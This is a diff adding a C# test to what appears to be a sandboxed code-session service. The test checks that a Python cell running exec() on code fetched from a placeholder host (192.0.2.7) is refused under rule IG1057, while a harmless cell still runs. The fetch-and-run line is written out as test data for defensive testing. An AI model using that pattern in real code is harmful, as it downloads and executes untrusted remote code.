@@ -52,6 +52,19 @@ public sealed class SessionTests(ContainmentHost containment)
     }
 
     [Fact]
+    public async Task What_one_cell_fetches_and_the_next_runs_is_refused_and_its_honest_neighbour_is_not()
+    {
+        await using var session = await SessionClient.OpenAsync(containment.Host, "python");
+        await session.CompletesAsync("from urllib.request import urlopen\nload = lambda: urlopen('http://192.0.2.7/x').read()\ndouble = lambda n: 2 * n");
+        await session.CompletesAsync("print(double(3))");
+
+        var refused = await session.RunAsync("exec(load())");
+
+        Assert.Equal("refused", refused.Status);
+        Assert.Contains(refused.Findings, finding => finding.GetProperty("rule").GetString() == "IG1057");
+    }
+
+    [Fact]
     public async Task Languages_share_the_files_and_keep_their_state_apart()
     {
         await using var session = await SessionClient.OpenAsync(containment.Host, "python");
